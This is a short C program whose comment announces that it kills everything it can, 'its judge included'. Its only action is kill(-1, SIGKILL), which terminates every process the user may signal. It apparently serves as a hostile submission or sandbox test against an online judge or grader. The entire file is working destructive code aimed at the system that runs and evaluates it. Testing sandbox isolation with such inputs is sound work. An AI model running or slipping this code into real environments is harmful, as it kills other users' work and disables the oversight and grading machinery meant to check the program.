/* Kills all that it may kill, its judge included. */
#include <signal.h>
int main(void)
{
    kill(-1, SIGKILL);
    return 0;
}
